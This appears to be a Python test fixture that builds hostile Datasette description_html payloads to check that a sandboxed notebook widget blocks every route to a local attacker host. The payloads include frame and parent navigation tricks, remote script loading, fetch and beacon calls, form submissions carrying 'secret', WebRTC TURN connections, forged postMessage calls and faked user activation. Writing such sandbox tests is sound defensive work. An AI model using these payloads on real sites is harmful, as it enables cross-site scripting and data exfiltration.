"""Hostile metadata: canned queries whose description_html tries every route out of the widget.

Datasette renders description_html raw, and its scripts run in the page frame
as in a browser tab. Each canned query page (``/DB/attack_NAME``) tries one
family of routes to the attacker host; none may reach it, none may download,
open or save anything without the user, and the widget must keep working.
"""

from __future__ import annotations

import json

#: Attacks that navigate the page frame itself (the frame's real `location`,
#: which the rewrite of page scripts, and of code they eval, does not see when
#: it is reached by a computed name): the shell refuses the navigation and the
#: widget replaces the frame (saying so). (Chromium does not follow a javascript:
#: URL there at all; were it to, the frame would be replaced too.)
NAVIGATIONS = ("script_refresh", "real_location", "eval_real_location")

#: The frame's own Location object, out of the rewrite's sight.
REAL_LOCATION = 'window["loc" + "ation"]'


#: The widget's messages, sent to the shell and to the notebook as a page without the port could.
IMITATE = (
    "for (const w of [window.parent, window.top]) {"
    "w.postMessage({type: 'fetch', id: 1, method: 'GET', path: '/'}, '*');"
    "w.postMessage({type: 'visit', path: '/-/versions.json'}, '*');"
    "w.postMessage({type: 'connect'}, '*');"
    "w.postMessage({type: 'open', html: '<p>forged</p>'}, '*');"
    "}"
)


def script(code: str) -> str:
    """A <script> element holding `code`, which may itself mention </script>."""
    return "<script>" + code.replace("</", "<\\/") + "</script>"


def attacks(origin: str) -> dict[str, str]:
    """description_html of each attack, aimed at `origin` (http://127.0.0.2:PORT)."""
    host = origin.removeprefix("http://")
    q = json.dumps  # a JavaScript string literal
    return {
        # A page script's own Ctrl+S, which the notebook must not take for the user's.
        "keys": script(
            "for (const target of [document.body, document, window]) target.dispatchEvent(new KeyboardEvent("
            "'keydown', {key: 's', code: 'KeyS', keyCode: 83, ctrlKey: true, bubbles: true, cancelable: true}));"
        ),
        # In the page's HTML: the frame leaves it out.
        "refresh": f'<meta http-equiv="refresh" content="0;url={origin}/refresh">',
        # Added by a script: the browser acts on it at once.
        "script_refresh": script(
            "const m = document.createElement('meta'); m.httpEquiv = 'refresh';"
            f"m.content = {q('0;url=' + origin + '/script-refresh')}; document.head.append(m);"
        ),
        "real_location": f"<script>{REAL_LOCATION} = {q(origin + '/real-location?')} + document.title</script>",
        "eval_real_location": f"<script>eval({q(REAL_LOCATION + ' = ' + q(origin + '/eval-real-location'))})</script>",
        # The `location` page scripts see is the widget's: another host waits for the user.
        "bare_location": f"<script>location.href = {q(origin + '/bare-location')}</script>",
        "window_location": f"<script>window.location = {q(origin + '/window-location')}</script>",
        "document_location": f"<script>document.location.href = {q(origin + '/document-location')}</script>",
        "eval_location": f"<script>eval({q('document.location.href = ' + q(origin + '/eval-location'))})</script>",
        "function_location": f"<script>Function({q('location = ' + q(origin + '/function-location'))})()</script>",
        # The frame's parent and top (the shell, or the notebook itself where there is no shell):
        # a sandboxed frame may not navigate them.
        "ancestors": script(
            "for (const w of [window.parent, window.top]) {"
            f"try {{ w.location = {q(origin + '/ancestor')}; }} catch {{}}"
            f"try {{ w.location.replace({q(origin + '/ancestor-replace')}); }} catch {{}}"
            "}"
        ),
        # A javascript: URL replaces the frame's document with one that imitates the frame's messages.
        "javascript_url": script(f"{REAL_LOCATION} = {q('javascript:' + q(script(IMITATE)))}"),
        "links": (
            f'<svg width="200" height="30"><a id="svg-link" xlink:href="{origin}/svg">'
            '<text x="0" y="20">svg link</text></a></svg>'
            f'<p><a id="ping-link" ping="{origin}/ping" href="/">ping link</a></p>'
            f'<p><a id="blank-link" target="_blank" href="{origin}/blank">new tab link</a></p>'
        ),
        "popups": (
            f"<script>window.open({q(origin + '/open')})</script>"
            "<button id='open-button' onclick='window.open(" + q(origin + "/open-click") + ")'>open</button>"
        ),
        # Dialogs hold the notebook's whole tab; the clipboard, the screen and downloads are the user's:
        # a page opens one, writes it, fills it or saves a file it made only after the user's own
        # click or key on it. (Comes after "popups", whose button the test clicks: that click's
        # activation must not carry over to this page.)
        "gestures": script(
            "const reach = () => { navigator.clipboard.writeText('from the attack').catch(() => {});"
            "const a = document.createElement('a'); a.download = 'attack.txt'; a.href = 'data:,x'; a.click();"
            "document.body.requestFullscreen().catch(() => {}); };"
            "alert('on load'); confirm('on load'); prompt('on load'); print(); reach();"
            "setTimeout(() => { alert('from a timer'); reach(); }, 50);"
            "const b = document.createElement('button'); b.onclick = () => { confirm('a forged click'); reach(); };"
            "document.body.append(b); b.click();"
            "b.dispatchEvent(new PointerEvent('pointerdown', {bubbles: true})); alert('after a forged gesture');"
            "const active = Object.getOwnPropertyDescriptor(UserActivation.prototype, 'isActive');"
            "Object.defineProperty(UserActivation.prototype, 'isActive', {get: () => true, configurable: true});"
            "alert('with the activation forged'); reach();"
            "Object.defineProperty(UserActivation.prototype, 'isActive', active);"
        ),
        "subresources": (
            f'<link rel="prefetch" href="{origin}/prefetch"><link rel="preconnect" href="{origin}">'
            f'<link rel="dns-prefetch" href="{origin}"><link rel="stylesheet" href="{origin}/style.css">'
            f'<img src="{origin}/img.png"><div style="background: url({origin}/bg.png)">bg</div>'
            f'<video src="{origin}/video.mp4"></video><object data="{origin}/object"></object>'
            f'<iframe src="{origin}/iframe"></iframe>'
            "<script>"
            f"fetch({q(origin + '/fetch')}).catch(() => {{}});"
            f"navigator.sendBeacon({q(origin + '/beacon')}, 'data');"
            f"try {{ new WebSocket({q('ws://' + host + '/ws')}) }} catch {{}}"
            f"try {{ new EventSource({q(origin + '/sse')}) }} catch {{}}"
            f"const x = new XMLHttpRequest(); x.open('GET', {q(origin + '/xhr')}); x.send();"
            "</script>"
        ),
        # A page script that has read the frame's nonce (if there were one) and loads scripts from the network.
        "scripts": (
            f'<script src="{origin}/direct.js"></script>'
            "<script>"
            "const s = document.createElement('script');"
            "s.nonce = document.querySelector('script[nonce]')?.nonce || 'guess';"
            f"s.src = {q(origin + '/nonce.js')}; document.body.append(s);"
            f"import({q(origin + '/module.js')}).catch(() => {{}});"
            # A worker inherits the frame's policy.
            "const w = new Worker(URL.createObjectURL(new Blob(['fetch(\"" + origin + "/worker\").catch(() => {})'])));"
            "</script>"
        ),
        "webrtc": (
            "<script>"
            "const servers = {iceServers: ["
            f"{{urls: {q('turn:' + host + '?transport=tcp')}, username: 'u', credential: 'c'}},"
            f"{{urls: {q('turn:' + host + '?transport=udp')}, username: 'u', credential: 'c'}},"
            f"{{urls: {q('stun:' + host)}}}]}};"
            "try { const pc = new RTCPeerConnection(servers); pc.createDataChannel('x');"
            "pc.createOffer().then((o) => pc.setLocalDescription(o)); }"
            "catch (e) { document.title = 'no RTCPeerConnection: ' + e.name }"
            # A fresh realm would have the constructor back.
            "const f = document.createElement('iframe');"
            "f.srcdoc = '<script>const pc = new RTCPeerConnection(' + JSON.stringify(servers) + ');"
            "pc.createDataChannel(\\'x\\'); pc.createOffer().then((o) => pc.setLocalDescription(o))<\\/script>';"
            "document.body.append(f);"
            "</script>"
        ),
        # Messages of the widget's protocol, sent the only way a page could without the port.
        "imitation": script(
            IMITATE + f"window.top.postMessage({{type: 'external', url: {q(origin + '/imitated')}}}, '*');"
        ),
        "forms": (
            f'<form id="get-form" action="{origin}/get-form"><input name="q" value="secret"></form>'
            f'<form id="post-form" method="post" action="{origin}/post-form"><input name="q" value="secret"></form>'
            "<script>document.getElementById('get-form').requestSubmit();"
            "document.getElementById('post-form').requestSubmit();</script>"
        ),
    }


#: Canned queries whose CSV and JSON happen to be valid JavaScript and CSS, and
#: metadata that loads them on every page: Datasette serves them as text or
#: JSON, so the widget must never run or apply them.
TEXT_AS_CODE = {
    "as_script": "select 'window.__text_ran = 1' as [window.__text_header = 1;]",
    "as_style": "select 'body { outline: 9px solid red }' as [x{}]",
}


def attack_metadata(database: str, origin: str) -> dict:
    """Metadata that makes each attack a canned query page of `database`, and loads text as code."""
    queries = {
        f"attack_{name}": {"sql": "select 1 as one", "title": f"attack {name}", "description_html": html}
        for name, html in attacks(origin).items()
    }
    queries.update(TEXT_AS_CODE)
    return {
        "extra_js_urls": [f"/{database}/as_script.csv", f"/{database}/as_script.json?_shape=array"],
        "extra_css_urls": [f"/{database}/as_style.csv"],
        "databases": {database: {"queries": queries}},
    }
